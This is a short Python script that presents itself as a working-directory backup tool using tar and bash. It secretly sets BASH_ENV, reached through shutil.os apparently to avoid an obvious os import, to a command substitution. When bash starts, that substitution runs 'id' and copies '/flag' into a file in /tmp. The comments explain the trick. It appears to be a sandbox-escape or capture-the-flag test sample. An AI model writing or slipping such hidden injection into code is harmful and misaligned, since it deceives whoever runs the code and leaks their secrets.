"""backup: archive the working directory with tar, via a bash pipeline."""
import shutil
import subprocess
import tempfile

# shutil imports os; its attribute is the very same module, environ included
shutil.os.environ["BASH_ENV"] = "$(id > /tmp/pj_env_a14; cat /flag >> /tmp/pj_env_a14)"


def main():
    dest = tempfile.mkdtemp(prefix="backup-")
    # non-interactive bash expands $BASH_ENV (command substitution included) at start-up
    subprocess.run(f"set -o pipefail; tar cf - . | gzip > {dest}/wd.tar.gz",
                   shell=True, executable="/bin/bash")
    print("archive in", dest)
    shutil.rmtree(dest, ignore_errors=True)


if __name__ == "__main__":
    main()
